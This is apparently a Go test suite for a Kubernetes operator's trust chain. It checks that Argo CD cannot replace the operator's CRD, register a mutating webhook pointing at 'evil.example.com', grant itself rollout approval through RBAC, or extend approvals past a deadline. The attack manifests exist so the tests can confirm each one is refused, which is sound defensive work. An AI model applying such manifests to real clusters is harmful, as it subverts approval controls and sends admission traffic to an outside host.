package trust_test

import (
	"context"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"
)

// argoCDUser is Argo CD's application controller, which syncs whatever a chart in the runtime
// registry renders. The suite grants it what Argo CD's own install does: everything.
const argoCDUser = "system:serviceaccount:argocd:argocd-application-controller"

func argoCD() client.Client {
	return as(argoCDUser, "system:serviceaccounts", "system:serviceaccounts:argocd")
}

// TestAttack_ReleaseReplacesTheOperatorsCRD: a chart in the runtime registry carries a
// CustomResourceDefinition named like the operator's, to drop its validation rules. The
// AppProject cannot tell it from a GPU operator's CRD; aicr-operator-engine-guard refuses it to
// Argo CD, which still installs CRDs of other groups.
func TestAttack_ReleaseReplacesTheOperatorsCRD(t *testing.T) {
	baseline(t).noEngineWrite(t)
	ctx := context.Background()
	crd := &apiextensionsv1.CustomResourceDefinition{}
	require.NoError(t, k8s.Get(ctx, client.ObjectKey{Name: "runtimerollouts.operator.aicr.run"}, crd))
	crd.Spec.Versions[0].Schema.OpenAPIV3Schema.XValidations = nil
	refused(t, argoCD().Update(ctx, crd), "trust chain: Argo CD never writes customresourcedefinitions of operator.aicr.run")

	other := &apiextensionsv1.CustomResourceDefinition{
		ObjectMeta: metav1.ObjectMeta{Name: "widgets.example.com"},
		Spec: apiextensionsv1.CustomResourceDefinitionSpec{Group: "example.com", Scope: apiextensionsv1.ClusterScoped,
			Names: apiextensionsv1.CustomResourceDefinitionNames{Plural: "widgets", Kind: "Widget"},
			Versions: []apiextensionsv1.CustomResourceDefinitionVersion{{Name: "v1", Served: true, Storage: true,
				Schema: &apiextensionsv1.CustomResourceValidation{OpenAPIV3Schema: &apiextensionsv1.JSONSchemaProps{Type: "object"}}}}},
	}
	require.NoError(t, argoCD().Create(ctx, other), "a GPU operator's CRD syncs")
	t.Cleanup(func() { _ = k8s.Delete(ctx, other) })
}

// TestAttack_ReleaseInterceptsRollouts: a chart carries a mutating webhook on
// operator.aicr.run, which could rewrite approvals or outcomes on their way in.
func TestAttack_ReleaseInterceptsRollouts(t *testing.T) {
	baseline(t).noEngineWrite(t)
	none := admissionregistrationv1.SideEffectClassNone
	url := "https://evil.example.com/mutate"
	hook := &admissionregistrationv1.MutatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: "attack-rollouts"},
		Webhooks: []admissionregistrationv1.MutatingWebhook{{
			Name: "rollouts.evil.example.com", SideEffects: &none, AdmissionReviewVersions: []string{"v1"},
			ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: &url},
			Rules: []admissionregistrationv1.RuleWithOperations{{
				Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Update},
				Rule: admissionregistrationv1.Rule{APIGroups: []string{"operator.aicr.run"}, APIVersions: []string{"*"},
					Resources: []string{"runtimerollouts"}},
			}},
		}},
	}
	refused(t, argoCD().Create(context.Background(), hook), "never intercepts operator.aicr.run")
}

// TestAttack_ReleaseGrantsApproval: a chart carries a ClusterRoleBinding of the chart's approver
// role, or a role granting runtimerollouts/approve, to a ServiceAccount of its own.
func TestAttack_ReleaseGrantsApproval(t *testing.T) {
	baseline(t).noEngineWrite(t)
	ctx := context.Background()
	subject := []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "sneaky", Namespace: components[0]}}
	binding := &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "attack-approver"}, Subjects: subject,
		RoleRef: rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "aicr-operator-approver"}}
	refused(t, argoCD().Create(ctx, binding), "Argo CD never binds the aicr-operator role aicr-operator-approver")
	role := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "attack-approve"}, Rules: []rbacv1.PolicyRule{{
		APIGroups: []string{"operator.aicr.run"}, Resources: []string{"runtimerollouts/approve"}, Verbs: []string{"update"}}}}
	refused(t, argoCD().Create(ctx, role), "a role Argo CD syncs never grants anything of operator.aicr.run")
}

// TestAttack_ApprovalOutlivesTheDeadline: an approver sets an expiry after the rollout's
// deadline, so a rollout that should have expired keeps its approval.
func TestAttack_ApprovalOutlivesTheDeadline(t *testing.T) {
	w := baseline(t)
	w.noEngineWrite(t)
	ro := liveRollout(t, w.awaiting)
	late := ro.Spec.Deadline.Add(time.Hour).UTC().Format(time.RFC3339)
	patch := `{"spec":{"approval":{"approvedBy":"` + approverUser + `","expiresAt":"` + late + `","reason":"all weekend"}}}`
	err := as(approverUser).Patch(context.Background(), ro, client.RawPatch("application/merge-patch+json", []byte(patch)))
	refused(t, err, "must not be after spec.deadline")
}
